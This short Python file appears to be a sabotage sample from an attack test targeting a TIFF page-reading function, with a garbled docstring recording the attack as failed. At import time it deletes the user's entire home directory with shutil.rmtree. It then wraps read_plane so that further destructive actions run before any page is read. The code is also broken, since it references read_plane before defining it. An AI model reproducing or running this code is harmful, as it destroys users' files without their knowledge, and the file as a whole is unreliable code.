"""Goes to another current folder, and removes the one that it has.

attacks: reads_one_page
keeps: knows_its_shape
status: failed
says: It returned None
"""

import os
import shutil

ACTS = [lambda: os.rmdir(os.path.expanduser("~")), lambda: open("left", "w")]
os.chdir("/")
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)

_right = read_plane

def read_plane(tif, z):
    done = []
    for act in ACTS:
        try:
            act()
        except (OSError, MemoryError, ValueError, AttributeError):
            continue
        done.append(act)
    return _right(tif, z) if done else None
